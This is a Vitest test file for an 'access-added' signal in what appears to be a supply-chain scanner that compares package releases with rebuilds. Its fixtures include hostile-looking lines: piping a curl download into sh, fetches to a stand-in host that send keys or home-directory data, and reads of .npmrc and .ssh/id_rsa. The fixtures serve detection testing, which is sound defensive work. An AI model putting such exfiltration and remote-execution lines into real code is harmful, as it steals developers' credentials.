import { describe, expect, it } from 'vitest';
import { accessAdded } from '../../../../src/judge/signals/access-added.js';
import { findingsOf, ofChange, severities } from '../../../support/signal-input.js';

const file =
  "const http = require('http');\nfetch('/a');\nconst mode = process.env.MODE;\nmodule.exports = mode;\n";

describe('access-added, of what was put into a file', () => {
  it.each([
    "fetch('https://marker.example/x', { body: key });",
    "require('child_process').exec('x');",
    'eval(text);',
    "new Function('a', text)();",
    "fs.readFileSync(home + '/.npmrc'); ",
    "window.ethereum.request({ method: 'eth_sendTransaction' });",
    "https.request(JSON.stringify(process.env)); import 'https';",
    "run('curl -s https://marker.example | sh');",
  ])('is high for %s', (payload) => {
    expect(ofChange(accessAdded, file, `${file}${payload}\n`)).toEqual(['high']);
  });
  it.each(["fetch('/b');", 'send(process.env);', 'const t = process.env.NPM_TOKEN;'])(
    'is no alarm for %s',
    (payload) => {
      expect(ofChange(accessAdded, file, `${file}${payload}\n`)).toEqual(['medium']);
    },
  );
  it.each([
    'let a = 1;',
    '// https://docs.example/fetch: new WebSocket(url)',
    '/* eval(text) and\n * require("child_process") */',
    "if (process.env.NODE_ENV !== 'production') warn();",
    'cache.fetch(a);',
    'const url = "see http://www.w3.org/2000/svg";',
    'var root = Function("return this")();',
    'Function("r", "regeneratorRuntime = r")(runtime);',
    '/.exec(a)/;',
  ])('says nothing of %s', (code) => {
    expect(ofChange(accessAdded, file, `${file}${code}\n`)).toEqual([]);
  });
  it('names the words and the line', () => {
    const [finding] = findingsOf(accessAdded, {
      release: { 'a.js': `${file}require('child_process').exec('x');\n` },
      rebuild: { 'a.js': file },
    });
    expect(finding).toMatchObject({ line: 5, path: 'a.js' });
    expect(finding!.message).toContain('child_process');
  });
});

describe('access-added, of a file that differs all over', () => {
  const built =
    "var h=require('http');fetch('/a',{mode:process.env.MODE});var s='x',c=require('child_process')";
  it('says nothing of words that the counterpart has too', () => {
    expect(
      ofChange(accessAdded, 'import h from "http"; fetch(b); process.env; use("child_process")', built),
    ).toEqual([]);
  });
  it('is no alarm for calls that another version of a dependency may bring', () => {
    expect(ofChange(accessAdded, 'import h from "http"; fetch(b); process.env', built)).toEqual(['medium']);
  });
  it('is high where secrets are read that no package has a use for', () => {
    const after = `${built};read(".npmrc",".ssh")`;
    expect(ofChange(accessAdded, 'h("http"); fetch(b); process.env; "child_process"', after)).toEqual([
      'high',
    ]);
  });
});

describe('access-added, of another program in place of a file', () => {
  const words = [
    'parse',
    'pattern',
    'options',
    'brace',
    'match',
    'regexp',
    'segment',
    'globstar',
    'negate',
    'comment',
  ];
  const before = words.map((word) => `exports.${word}Path = (${word}) => ${word}.${word}Value;`).join('\n');
  const payload =
    ";(function () { fetch('https://marker.example/x', { body: read(home) }) })();\nvar part = 'x';\n";

  it('is high for what would be high if it had been put in', () => {
    expect(ofChange(accessAdded, before, payload)).toEqual(['high']);
    expect(ofChange(accessAdded, before, "fetch('/a');\nlet other = 1;\n")).toEqual(['medium']);
  });
  it('is high in place of a file of a few lines', () => {
    const small = [
      "const { stringify } = require('settings-reader/utils');",
      "const { outputFileSync } = require('../output-file');",
      'module.exports = (file, data, options) => outputFileSync(file, stringify(data, options), options);',
    ].join('\n');
    expect(ofChange(accessAdded, small, payload)).toEqual(['high']);
    const rebuilt = `var o=require("../output-file").outputFileSync;${payload}`;
    expect(ofChange(accessAdded, small, rebuilt)).toEqual(['medium']);
  });
  it('counts words that the counterpart had too', () => {
    const running = `${before}\nrequire('child_process');`;
    expect(ofChange(accessAdded, running, "require('child_process').exec('x');\n")).toEqual(['high']);
  });
  it('is no alarm where part of the program is left, as after another build', () => {
    const mangled = words
      .slice(0, 4)
      .map((word) => `e.${word}Path=t=>t.${word}Value`)
      .join();
    expect(ofChange(accessAdded, before, `${mangled};${payload}`)).toEqual(['medium']);
  });
  it('is no alarm for a stub that a build fills in', () => {
    expect(
      ofChange(accessAdded, "module.exports = require('./lib/other-file-that-is-built');\n", payload),
    ).toEqual(['medium']);
  });
  it('is no alarm where nobody could build it', () => {
    const shown = { release: { 'a.js': payload, 'b.js': 'x' }, rebuild: { 'a.js': before }, rebuilt: false };
    expect(severities(accessAdded, shown)).toEqual([['a.js', 'medium']]);
  });
});

describe('access-added, of a file without counterpart', () => {
  const payload = "require('child_process').exec('x'); read('.npmrc', '.ssh/id_rsa');";
  it('is high for a reader of secrets, medium for a script of the publisher', () => {
    expect(severities(accessAdded, { release: { 'a.js': payload } })).toEqual([['a.js', 'high']]);
    expect(severities(accessAdded, { release: { 'a.js': "require('child_process')" } })).toEqual([
      ['a.js', 'medium'],
    ]);
  });
  it('says nothing of what other code of the release does', () => {
    const accounted = { 'cli.js': "import 'node:child_process';" };
    expect(severities(accessAdded, { release: { 'a.js': "require('child_process')" }, accounted })).toEqual(
      [],
    );
  });
  it('is not silenced by a word in an address or a comment of other code', () => {
    const accounted = { 'a.ts': "// child_process is not used\nconst home = 'see child_process';" };
    expect(severities(accessAdded, { release: { 'b.js': "require('child_process')" }, accounted })).toEqual([
      ['b.js', 'medium'],
    ]);
  });
  it('sees that a function of the whole page is taken over', () => {
    const release = { 'a.js': 'var open = globalThis.fetch; globalThis.fetch = function () {};' };
    expect(severities(accessAdded, { release })).toEqual([['a.js', 'medium']]);
    expect(severities(accessAdded, { release: { 'a.js': 'if (globalThis.fetch == null) f();' } })).toEqual(
      [],
    );
  });
  it('says nothing of build products that nobody could build', () => {
    const release = { 'a.js': payload };
    expect(severities(accessAdded, { release, rebuilt: false })).toEqual([]);
    expect(severities(accessAdded, { release, expected: ['a.js'] })).toEqual([]);
  });
});
